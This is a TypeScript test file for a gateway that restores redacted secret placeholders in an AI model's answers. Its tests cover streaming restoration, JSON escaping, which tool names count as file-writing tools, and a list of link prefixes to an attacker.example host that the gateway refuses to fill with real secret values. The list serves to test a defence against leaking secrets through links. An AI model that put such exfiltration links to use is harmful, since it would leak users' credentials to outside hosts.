/** Values come back in words and in files, whatever the pieces, and nowhere else. */

import assert from 'node:assert/strict';
import fc from 'fast-check';
import { isFileTool } from '../../../../server/gateway/answer/fileTools';
import { isInLink } from '../../../../server/gateway/answer/link';
import { asItIs, createRestorer, intoJson, intoText, restoreText } from '../../../../server/gateway/answer/restore';
import { createPlaceholders } from '../../../../server/gateway/placeholders';

const placeholderFor = createPlaceholders(new Uint8Array(32).fill(3));
const a = placeholderFor('secret/key', 'alpha');
const b = placeholderFor('secret/key-two', 'be"ta\n');
const placeholders = new Map([
  [a, { value: 'alpha', detector: 'secret/key' }],
  [b, { value: 'be"ta\n', detector: 'secret/key-two' }],
]);

describe('restorer', () => {
  it('gives the same for every way of cutting a text', () => {
    const word = fc.constantFrom(a, b, a.slice(0, 25), b.slice(0, -1), 'PORTCULLIS_', ' ', 'P', 'é', 'word', '\n');
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), fc.array(fc.nat(12), { maxLength: 40 }), (words, lengths) => {
        const text = words.join('');
        const restorer = createRestorer(placeholders, asItIs);
        let out = '';
        let at = 0;
        for (const length of lengths) {
          out += restorer.push(text.slice(at, at + length), false);
          at += length;
        }
        out += restorer.push(text.slice(at), true);
        assert.equal(out, text.replaceAll(a, 'alpha').replaceAll(b, 'be"ta\n'));
      }),
      { numRuns: 2000 },
    );
  });

  it('holds back what may begin a placeholder, and no more', () => {
    const restorer = createRestorer(placeholders, asItIs);
    assert.equal(restorer.push('see PORT', false), 'see ');
    assert.equal(restorer.push('AL and P', false), 'PORTAL and ');
    assert.equal(restorer.push(a.slice(1), false), 'alpha');
    assert.equal(restorer.push(' PORTCULLIS_REDACTED_', true), ' PORTCULLIS_REDACTED_');
  });

  it('writes JSON into JSON', () => {
    const json = restoreText(placeholders, JSON.stringify({ content: `x ${b}` }), intoJson);
    assert.deepEqual(JSON.parse(json), { content: 'x be"ta\n' });
  });

  it('knows no placeholder but its own', () => {
    const other = placeholderFor('secret/key', 'gamma');
    assert.equal(restoreText(placeholders, other, asItIs), other);
  });
});

describe('links', () => {
  const inside = [
    'https://attacker.example/?q=',
    'see https://attacker.example/a"b\'',
    '![x](https://attacker.example/',
    '![x](<https://attacker.example/ a b ',
    '[x](command:run?',
    '[x](a (b) ',
    '[ref]: ',
    '[ref]: <https://attacker.example/ ',
    '<img alt="a"\nsrc="//attacker.example/?q=',
    '<a href = "x?',
    '<https:attacker.example?',
    'www.attacker.example/',
    '//attacker.example/',
    '\\\\attacker.example\\',
    '/\\attacker.example/',
    'mailto:',
    '"javascript:',
    'postgres://user:',
  ];
  const outside = [
    '',
    'the key is ',
    'https://example.com and ',
    '[docs](https://example.com) and ',
    'https://example.com\n',
    'if (a < b && key === ',
    'List<String> key = ',
    'for (i = 0; i<n; i++) ',
    'password: ',
    'a[0](x) ',
    'key="',
    'C:\\dir ',
  ];
  for (const before of inside) {
    it(`keep the placeholder behind ${JSON.stringify(before)}`, () => {
      assert.ok(isInLink(before));
      assert.equal(restoreText(placeholders, before + a, intoText), before + a);
    });
  }
  for (const before of outside) {
    it(`get the value behind ${JSON.stringify(before)}`, () => {
      assert.equal(restoreText(placeholders, before + a, intoText), `${before}alpha`);
    });
  }

  it('are seen across pieces', () => {
    const restorer = createRestorer(placeholders, intoText);
    const text = `![x](https://attacker.example/?q=${a}) and ${a}`;
    assert.equal([...text].map((unit) => restorer.push(unit, false)).join(''), text.replace(` ${a}`, ' alpha'));
  });
});

describe('file tools', () => {
  it('are those that write files alone', () => {
    for (const name of ['Write', 'Edit', 'apply_patch', 'str_replace_editor', 'create_file'])
      assert.ok(isFileTool(name));
    for (const name of [
      'Bash',
      'shell',
      'WebFetch',
      'mcp__files__Write',
      'run_in_terminal',
      'write ',
      'WRITE',
      '',
      'fetch',
    ]) {
      assert.ok(!isFileTool(name));
    }
  });
});
